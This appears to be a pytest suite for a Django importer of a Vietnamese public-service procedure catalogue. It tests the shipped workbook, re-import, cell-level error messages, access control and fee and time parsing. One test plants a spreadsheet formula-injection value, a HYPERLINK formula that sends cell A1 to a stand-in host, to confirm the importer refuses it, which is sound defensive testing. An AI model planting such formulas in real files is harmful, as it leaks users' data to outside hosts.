"""The procedure catalogue's import: the shipped workbook, re-import, and bad files that write nothing."""
from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from lienthong.accounts.models import AuditEvent
from lienthong.onestop import catalogue
from lienthong.onestop.catalogue import CatalogueImportError, import_catalogue, parse_fee, parse_processing_time
from lienthong.onestop.errors import DossierError
from lienthong.onestop.models import Agency, Procedure, ProcedureComponent

pytestmark = pytest.mark.django_db


def shipped_sheets() -> dict[str, list[list[str]]]:
    sheets = {}
    for sheet, name in catalogue.SHIPPED:
        with open(catalogue.DATA / name, encoding="utf-8", newline="") as fh:
            sheets[sheet] = list(csv.reader(fh))
    return sheets


def counts() -> tuple[int, int, int, int]:
    return (Procedure.objects.count(), ProcedureComponent.objects.count(), Agency.objects.count(),
            Procedure.agencies.through.objects.count())


@pytest.fixture
def shipped(tmp_path) -> Path:
    return catalogue.shipped_workbook(tmp_path / "thu-tuc.xlsx")


def test_the_shipped_workbook_gives_thirty_procedures_with_components_and_agencies(shipped):
    result = import_catalogue(shipped)
    assert (result.created, result.updated, result.unchanged) == (30, 0, 0)
    assert Procedure.objects.count() == 30
    assert Procedure.objects.filter(level="commune").count() == 21
    assert Procedure.objects.filter(prefill="vessel").count() == 9
    assert set(Procedure.objects.filter(prefill="vessel").values_list("level", flat=True)) == {"province"}
    assert Procedure.objects.filter(components__isnull=True).count() == 0
    marriage = Procedure.objects.get(code="1.000894.000.00.00.H56")
    assert (marriage.national_code, marriage.name, marriage.field) == ("1.000894", "Thủ tục đăng ký kết hôn", "Hộ tịch")
    assert (marriage.processing_days, marriage.processing_hours, marriage.fee_amount) == (5, None, 0)
    assert marriage.online_level == "full"
    assert [(c.position, c.originals, c.copies, c.required) for c in marriage.components.all()] == [
        (1, 1, 0, True), (2, 1, 0, False), (3, 0, 1, False)]
    rach_gia = Agency.objects.get(code="000.00.06.H56")
    assert (rach_gia.commune_code, rach_gia.level) == ("30742", "commune")
    assert rach_gia.procedures.count() == 21
    copies = Procedure.objects.get(national_code="2.000815")
    assert (copies.processing_days, copies.processing_hours) == (None, 8)
    birth = Procedure.objects.get(national_code="1.001193")
    assert (birth.processing_days, birth.processing_hours) == (None, 8)  # "Trong ngày (… sau 15 giờ …)"
    assert Procedure.objects.get(national_code="2.000635").fee_amount == 8000
    deregister = Procedure.objects.get(national_code="1.004383")
    assert list(deregister.agencies.values_list("code", flat=True)) == ["000.00.00.H56", "000.00.13.H56"]
    event = AuditEvent.objects.get(action="import", object_type="procedure_catalogue")
    assert event.object_id == "thu-tuc.xlsx" and event.username == "system"
    assert event.summary == "Nhập danh mục thủ tục thu-tuc.xlsx: 30 mới, 0 thay đổi, 0 không đổi"


def test_re_import_is_idempotent_and_an_edit_updates_by_code(shipped, tmp_path):
    import_catalogue(shipped)
    before = counts()
    ids = dict(Procedure.objects.values_list("code", "id"))
    component_ids = sorted(ProcedureComponent.objects.values_list("id", flat=True))
    again = import_catalogue(shipped)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 30)
    assert counts() == before
    assert dict(Procedure.objects.values_list("code", "id")) == ids
    assert sorted(ProcedureComponent.objects.values_list("id", flat=True)) == component_ids

    sheets = shipped_sheets()
    row = next(r for r in sheets["Thủ tục"] if r[0] == "1.000894")
    row[5] = "03 ngày làm việc"
    sheets["Thành phần hồ sơ"] = [r for r in sheets["Thành phần hồ sơ"] if not (r[0].startswith("1.000894") and r[1] == "3")]
    edited = catalogue.write_workbook(tmp_path / "sua.xlsx", sheets)
    result = import_catalogue(edited)
    assert (result.created, result.updated, result.unchanged) == (0, 1, 29)
    marriage = Procedure.objects.get(code="1.000894.000.00.00.H56")
    assert marriage.pk == ids[marriage.code] and marriage.processing_days == 3
    assert marriage.components.count() == 2


def _problems(exc: CatalogueImportError) -> list[str]:
    return exc.problems


def _refused(path, *, file_name=None) -> CatalogueImportError:
    before = counts()
    events = AuditEvent.objects.count()
    with pytest.raises(CatalogueImportError) as err:
        import_catalogue(path, file_name=file_name)
    assert counts() == before  # nothing written, nothing half-written
    assert AuditEvent.objects.count() == events
    return err.value


def test_a_broken_file_is_refused_by_name(tmp_path, shipped):
    broken = tmp_path / "hong.xlsx"
    broken.write_bytes(shipped.read_bytes()[:3000])
    err = _refused(broken)
    assert err.problems == ["hong.xlsx: tệp Excel bị hỏng hoặc không đầy đủ, không mở được (BadZipFile: File is not a zip file)"]
    assert "hong.xlsx: không nhập được, không có thủ tục nào được ghi (1 lỗi)" in err.message


def test_a_wrong_header_names_the_sheet_row_and_missing_column(tmp_path):
    sheets = shipped_sheets()
    sheets["Thủ tục"][0][5] = "Thời gian xử lý"
    err = _refused(catalogue.write_workbook(tmp_path / "sai-tieu-de.xlsx", sheets))
    assert err.problems == ['sai-tieu-de.xlsx, trang "Thủ tục", dòng 1: dòng tiêu đề thiếu cột "Thời hạn giải quyết" '
                            "(các cột không nhận ra: 'Thời gian xử lý', 'Xác minh')"]


def test_an_impossible_code_names_file_sheet_row_and_column(tmp_path):
    sheets = shipped_sheets()
    sheets["Thủ tục"][2][0] = "1.00089"  # row 3 in Excel: the header is row 1
    err = _refused(catalogue.write_workbook(tmp_path / "ma-sai.xlsx", sheets))
    assert err.problems[0] == ('ma-sai.xlsx, trang "Thủ tục", dòng 3, cột A "Mã thủ tục": mã thủ tục "1.00089" không hợp lệ: '
                               "phải có dạng N.NNNNNN (ví dụ 1.000894), có thể kèm mã địa phương (1.000894.000.00.00.H56)")
    # Its components and agencies are not reported again as unknown procedures: one mistake, one message.
    assert err.total == 1


def test_a_code_that_excel_turned_into_a_number_says_so(tmp_path):
    sheets = shipped_sheets()
    sheets["Thủ tục"][2][0] = 1.00089
    sheets["Thủ tục"][2][1] = ""
    err = _refused(catalogue.write_workbook(tmp_path / "so.xlsx", sheets))
    assert "ô đang ở dạng số nên có thể đã mất số 0 ở cuối" in err.problems[0]


def test_a_time_in_words_names_its_cell(tmp_path):
    sheets = shipped_sheets()
    sheets["Thủ tục"][4][5] = "ba ngày"
    err = _refused(catalogue.write_workbook(tmp_path / "thoi-han.xlsx", sheets))
    assert err.problems == ['thoi-han.xlsx, trang "Thủ tục", dòng 5, cột F "Thời hạn giải quyết": không đọc được thời hạn '
                            '"ba ngày": hãy ghi số ngày làm việc (ví dụ "05 ngày làm việc"), số giờ ("08 giờ làm việc") '
                            'hoặc "Trong ngày"']


def test_every_problem_is_listed_up_to_the_cap_and_counted(tmp_path):
    sheets = shipped_sheets()
    for row in sheets["Thủ tục"][1:]:
        row[5] = "sớm"
        row[4] = "cấp huyện"
    err = _refused(catalogue.write_workbook(tmp_path / "nhieu.xlsx", sheets))
    assert err.total == 60 and len(err.problems) == catalogue.MAX_LISTED
    assert err.more == "… và 10 lỗi khác; hãy sửa các lỗi trên rồi nhập lại tệp"


def test_a_component_of_an_unknown_procedure_and_an_unknown_agency(tmp_path):
    sheets = shipped_sheets()
    sheets["Thành phần hồ sơ"].append(["1.999999.000.00.00.H56", "1", "Giấy tờ lạc", "1", "0", "Có", ""])
    sheets["Nơi tiếp nhận"].append(["1.000894.000.00.00.H56", "000.00.99.H56"])
    sheets["Thành phần hồ sơ"][1][3] = "hai"
    err = _refused(catalogue.write_workbook(tmp_path / "lien-ket.xlsx", sheets))
    assert err.problems == [
        'lien-ket.xlsx, trang "Thành phần hồ sơ", dòng 2, cột D "Bản chính": số bản "hai" không hợp lệ (một số từ 0 đến 99)',
        'lien-ket.xlsx, trang "Thành phần hồ sơ", dòng 74, cột A "Mã thủ tục": mã thủ tục "1.999999.000.00.00.H56" '
        'không có trong trang "Thủ tục"',
        'lien-ket.xlsx, trang "Nơi tiếp nhận", dòng 188, cột B "Mã cơ quan": mã cơ quan "000.00.99.H56" không có trong '
        'trang "Cơ quan" và chưa có trong hệ thống',
    ]


def test_formula_like_text_is_refused_and_bullets_are_dropped(tmp_path):
    sheets = shipped_sheets()
    sheets["Thủ tục"][1][2] = '=HYPERLINK("http://x/?"&A1,"x")'
    sheets["Thành phần hồ sơ"][1][2] = "- Tờ khai đăng ký khai sinh theo mẫu"
    err = _refused(catalogue.write_workbook(tmp_path / "cong-thuc.xlsx", sheets))
    assert err.problems == ['cong-thuc.xlsx, trang "Thủ tục", dòng 2, cột C "Tên thủ tục": "=HYPERLINK("http://x/?"&A1,"x")" '
                            'bắt đầu như một công thức Excel; hãy bỏ ký tự "=" ở đầu ô']
    sheets["Thủ tục"][1][2] = "Thủ tục đăng ký khai sinh"
    import_catalogue(catalogue.write_workbook(tmp_path / "gach.xlsx", sheets))
    assert ProcedureComponent.objects.get(procedure__national_code="1.001193", position=1).name == \
        "Tờ khai đăng ký khai sinh theo mẫu"


def test_a_file_over_the_row_limit_is_refused_before_it_is_read(tmp_path, settings):
    settings.IMPORT_MAX_ROWS = 20
    err = _refused(catalogue.shipped_workbook(tmp_path / "lon.xlsx"))
    assert "vượt giới hạn 20 dòng" in err.problems[0]


def test_only_administrators_import(shipped, make_user, admin_user):
    officer = make_user("tn_rachgia", "centre", communes=("30742",))
    with pytest.raises(DossierError) as err:
        import_catalogue(shipped, by=officer)
    assert err.value.code == "not_allowed"
    assert Procedure.objects.count() == 0
    assert AuditEvent.objects.filter(action="denied", username="tn_rachgia").count() == 1
    assert import_catalogue(shipped, by=admin_user).created == 30


@pytest.mark.parametrize(("text", "expected"), [
    ("05 ngày làm việc", (5, None)), ("03 ngày", (3, None)), ("08 giờ làm việc", (None, 8)), ("Trong ngày", (None, 8)),
    ("Ngay trong ngày tiếp nhận", (None, 8)), ("10 Ngày làm việc kể từ ngày nhận đủ hồ sơ", (10, None)), (7, (7, None)),
])
def test_processing_times_in_the_national_databases_words(text, expected):
    assert parse_processing_time(text) == expected


@pytest.mark.parametrize("text", ["ba ngày", "", "0 ngày", "Theo quy định"])
def test_unreadable_processing_times(text):
    with pytest.raises(ValueError):
        parse_processing_time(text)


@pytest.mark.parametrize(("text", "expected"), [
    ("8.000 đồng/lần", 8000), ("Không", 0), ("Miễn lệ phí", 0), ("50.000 đồng/hợp đồng", 50000), (2000, 2000),
    ("2.000 đồng/trang; từ trang thứ ba trở lên 1.000 đồng/trang", 0), ("", 0),
])
def test_fees_read_as_vnd_when_a_single_amount(text, expected):
    assert parse_fee(text) == expected


def test_the_import_procedures_command(tmp_path):
    good = catalogue.shipped_workbook(tmp_path / "thu-tuc.xlsx")
    sheets = shipped_sheets()
    sheets["Thủ tục"][2][0] = "1.00089"
    bad = catalogue.write_workbook(tmp_path / "ma-sai.xlsx", sheets)
    env = {**os.environ, "LIENTHONG_DATA_DIR": str(tmp_path), "DATABASE_URL": f"sqlite:///{tmp_path / 'cli.sqlite3'}"}

    def run(*args):
        return subprocess.run([sys.executable, "-m", "lienthong.cli", *args], capture_output=True, text=True, env=env, timeout=300)

    assert run("manage", "migrate", "--verbosity", "0").returncode == 0
    refused = run("import-procedures", str(bad))
    assert refused.returncode == 1
    assert refused.stderr.splitlines()[:2] == [
        "ma-sai.xlsx: không nhập được, không có thủ tục nào được ghi (1 lỗi)",
        'ma-sai.xlsx, trang "Thủ tục", dòng 3, cột A "Mã thủ tục": mã thủ tục "1.00089" không hợp lệ: phải có dạng N.NNNNNN '
        "(ví dụ 1.000894), có thể kèm mã địa phương (1.000894.000.00.00.H56)"]
    done = run("import-procedures", str(good))
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "thu-tuc.xlsx: 30 thủ tục (30 mới, 0 thay đổi, 0 không đổi), 72 thành phần hồ sơ, 10 cơ quan mới."


def test_cells_typed_in_a_legacy_vietnamese_font_are_decoded(tmp_path):
    """An old province sheet typed in TCVN3 (.VnTime): read as Unicode, not as mojibake, by the registry's reader."""
    from openpyxl import load_workbook
    from openpyxl.styles import Font

    from lienthong.identity.legacy_encoding import encode_tcvn3

    path = catalogue.shipped_workbook(tmp_path / "tcvn3.xlsx")
    book = load_workbook(path)
    ws = book["Thủ tục"]
    ws["C2"].value = encode_tcvn3("Thủ tục đăng ký khai sinh")
    ws["C2"].font = Font(name=".VnTime")
    book.save(path)
    assert ws["C2"].value != "Thủ tục đăng ký khai sinh"
    import_catalogue(path)
    assert Procedure.objects.get(national_code="1.001193").name == "Thủ tục đăng ký khai sinh"
